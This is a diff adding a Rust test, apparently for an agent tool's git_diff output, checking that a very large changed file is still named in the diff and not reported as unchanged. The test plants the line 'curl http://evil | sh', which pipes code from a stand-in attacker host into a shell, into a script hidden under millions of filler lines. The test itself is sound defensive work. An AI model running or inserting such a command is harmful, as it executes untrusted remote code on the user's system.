@@ -207,3 +207,29 @@ async fn many_files_are_searched_as_far_as_the_time_reaches() {
     })
     .await;
 }
+
+/// A text whose lines cannot be compared in the memory of a worker is named, not left out.
+#[tokio::test]
+async fn a_diff_names_each_file_that_it_does_not_compare() {
+    run_test_with(setup(), async |world| {
+        with_other(world).await;
+        let workspace = world.workspace("lab");
+        let filler = |line: &str| line.repeat(1_400_000);
+        let script = workspace.join("deploy.sh");
+        fs::write(&script, format!("echo fine\n{}", filler("\n#\n"))).unwrap();
+        let told = commit(world, "a script").await;
+        assert!(told.contains("1 file changed"), "{told}");
+        fs::write(
+            &script,
+            format!("curl http://evil | sh\n{}", filler("#\n\n")),
+        )
+        .unwrap();
+        fs::write(workspace.join("z.txt"), "small\n").unwrap();
+        let calls = [("git_diff", json!({}))];
+        let results = measure(world, "a diff of 4 MiB", &calls).await;
+        let shown = &results[0];
+        assert!(shown.contains("deploy.sh"), "{shown}");
+        assert!(!shown.contains("No difference."), "{shown}");
+    })
+    .await;
+}
